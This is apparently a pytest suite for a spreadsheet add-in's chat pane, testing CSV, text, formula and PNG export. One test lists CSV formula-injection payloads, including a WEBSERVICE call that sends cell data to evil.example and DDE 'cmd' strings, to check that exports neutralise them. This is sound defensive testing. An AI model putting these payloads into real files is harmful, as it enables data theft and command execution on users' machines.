"""What is taken out of the chat: tables, pictures, words and formulas."""

import base64
import csv
import io
import json

import pytest

from assistant.wire import Reply
from tests.addin.pane.talking import answered, ask, copy, firsts, keep_copies, last, open_chat

LANGS = pytest.mark.parametrize("lang", ["fr", "en"])


def reply(served, question, **more):
    """Return what the server itself replies."""
    return Reply.model_validate(served.ask("/v1/ask", {"question": question, **more}))


def test_csv_opens_as_numbers(page, demo):
    """
    In French semicolons and decimal commas, in English commas and points: the numbers that were shown.
    """
    for lang, question, separator, decimal in (
        ("fr", "CPL par canal au T3 2025", ";", ","),
        ("en", "CPL by channel in Q3 2025", ",", "."),
    ):
        open_chat(page, demo, lang)
        keep_copies(page)
        ask(page, question)
        copied = copy(page, "copyCsv")
        rows = list(csv.reader(io.StringIO(copied), delimiter=separator))
        expected = reply(demo, question)

        assert expected.table.head == rows[0]
        values = [None if not row[1] else float(row[1].replace(decimal, ".")) for row in rows[1:]]
        assert values == [
            None if r.value is None else pytest.approx(r.value, abs=0.006) for r in expected.rows
        ]


def test_a_number_alone_is_a_table_too(page, demo):
    """
    An answer of one number is copied with its margin of error and its dates.
    """
    open_chat(page, demo)
    keep_copies(page)
    ask(page, "CPL au T3 2025")
    head, row = csv.reader(io.StringIO(copy(page, "copyCsv")), delimiter=";")
    (expected,) = reply(demo, "CPL au T3 2025").rows

    assert 6 == len(head) == len(row)
    assert pytest.approx(expected.value) == float(row[1].replace(",", "."))
    assert [expected.period.start.isoformat(), expected.period.end.isoformat()] == row[4:]


FORMULAS = (
    '=WEBSERVICE("https://evil.example/?d="&A1)', "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\0=1+1", "＝1+1", 'a","=1+1', "a;=1+1",
    '=IMPORTRANGE("id","A1")', "{=1+1}", "+49 170 1234567",
)  # fmt: skip


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_no_cell_of_a_copy_is_a_formula(page, empty, lang):
    """
    A text that a spreadsheet would compute has an apostrophe before it; a negative number has none.
    """
    page.visit(empty.address)
    table = {
        "head": ["name", "value"],
        "numeric": [False, True],
        "rows": [[name, "-5,5 €" if lang == "fr" else "-€5.50"] for name in FORMULAS],
    }
    asked = json.dumps({"table": table, "rows": [], "lang": lang})
    copied = page.value(f"import('/pane/takeaway.js').then(({{ copyCsv }}) => copyCsv({asked}))")
    rows = list(
        csv.reader(io.StringIO(copied, newline=""), delimiter=";" if lang == "fr" else ",")
    )[1:]

    assert [2] * len(FORMULAS) == [len(row) for row in rows]
    assert {"-5,5" if lang == "fr" else "-5.50"} == {row[1] for row in rows}
    assert list(FORMULAS) == [row[0].removeprefix("'") for row in rows]
    harmless = {'a","=1+1', "a;=1+1"}
    assert [n for n in FORMULAS if n not in harmless] == [
        r[0][1:] for r in rows if r[0].startswith("'")
    ]


@pytest.mark.parametrize(
    "question",
    ["CPL par mois en 2025", "leads par canal et par mois en 2025", "top 5 canaux par CPL"],
)
def test_the_picture_is_a_png(page, demo, question):
    """
    The chart is saved as a picture of its own size twice over, and nothing is asked of the network.
    """
    open_chat(page, demo)
    ask(page, question)
    before = len(page.requests())
    # A chart is drawn again when its place gets wider: the picture and the width are of one drawing.
    told, width = page.value(
        "(() => { const svg = document.querySelector('.turn:last-child figure svg');"
        "const width = Number(svg.getAttribute('width'));"
        "return import('/pane/takeaway.js').then(({ png }) => png(svg, 'CPL'))"
        ".then((blob) => blob.arrayBuffer())"
        ".then((b) => [btoa(Array.from(new Uint8Array(b), (n) => String.fromCharCode(n)).join('')), width]); })()"
    )
    picture = base64.b64decode(told)

    assert b"\x89PNG\r\n\x1a\n" == picture[:8]
    assert 2 * (width + 40) == int.from_bytes(picture[16:20], "big")
    assert len(picture) > 5000
    assert [] == [a for a in page.requests()[before:] if not a.startswith(("data:", demo.address))]
    assert [] == page.complaints()


def test_words_and_formula_can_be_taken_away(page, demo):
    """
    The whole reply as text, and the formula that gives the number in a cell.
    """
    open_chat(page, demo)
    keep_copies(page)
    ask(page, "CAC sur LinkedIn au T3 2025")
    expected = reply(demo, "CAC sur LinkedIn au T3 2025")
    text = copy(page, "copyText")

    assert text.startswith("CAC sur LinkedIn au T3 2025\n\n" + expected.text)
    assert all(line in text for line in [*expected.caveats, *expected.details])
    assert expected.formula == copy(page, "copyFormula")


@LANGS
def test_what_is_suggested_is_answered(page, demo, lang):
    """
    Each question offered to begin with is answered, and holds no number of its own.
    """
    open_chat(page, demo, lang)
    offered = page.texts(".suggestion")

    assert len(offered) >= 5
    assert {"answer"} == {reply(demo, question).outcome for question in offered}
    assert {lang} == {reply(demo, question).lang.value for question in offered[:1]}

    page.click(".suggestion")
    answered(page)
    assert [offered[0]] == page.texts(".words")
    assert page.value("document.querySelector('#chat-welcome').hidden")


def test_two_caveats_are_seen_and_the_others_folded(page, demo):
    """
    What must be known first is in sight; the rest is one click away.
    """
    question = "CPL par canal et par mois en 2025"
    expected = reply(demo, question).caveats
    open_chat(page, demo)
    ask(page, question)

    seen, folded = last(page, ".caveats > ul > li"), last(page, ".caveats details li")

    assert len(expected) > 2 == len(seen)
    assert sorted(expected) == sorted([*seen, *folded])
    assert not page.value("document.querySelector('.caveats details').open")


def test_an_empty_workspace_can_be_talked_to(page, empty):
    """
    Before any import a definition is told, and what can be asked.
    """
    open_chat(page, empty)
    for question in page.texts(".suggestion"):
        ask(page, question)

    assert 2 == len(firsts(page))
    assert [] == page.complaints()


def test_the_picture_is_downloaded_under_the_policy(page, demo):
    """
    The button saves the picture without a request, and the policy has nothing to refuse.
    """
    open_chat(page, demo, "en")
    ask(page, "top 5 channels by CPL")
    page.tell("Page.setDownloadBehavior", behavior="deny")
    page.click(".turn:last-child [data-action=savePng]")
    page.until(
        "document.querySelector('.turn:last-child [data-action=savePng]').textContent === 'Downloaded'"
    )

    assert [] == page.complaints()


@pytest.mark.parametrize(
    ("spoken", "formula"),
    [("fr", '=B2B_KPI("CPL";"2025-Q3")'), ("en", '=B2B_KPI("CPL","2025-Q3")')],
)
def test_a_formula_goes_into_the_sheet_whatever_language_it_is_in(page, demo, spoken, formula):
    """
    Beside a sheet, the formula of a reply is put into the active cell through the sheet's own way.
    """
    page.visit(f"{demo.address}/?lang=fr")
    reply_ = {
        "outcome": "answer", "lang": spoken, "text": "x", "rows": [], "options": [], "chart": None,
        "table": None, "assumptions": [], "caveats": [], "details": [], "notes": [], "context": None,
        "formula": formula,
    }  # fmt: skip
    put = page.value(
        "import('/pane/reply.js').then(async ({ shownReply }) => { const put = [];"
        " const sheet = { insert: async (...given) => put.push(given) };"
        f" const shown = shownReply({json.dumps(reply_)}, {{ locale: 'fr-FR', sheet, said: 'x' }});"
        " shown.querySelector('[data-action=insertShort]').click(); await null; return put; })"
    )

    assert [["B2B_KPI", ["CPL", "2025-Q3"]]] == put
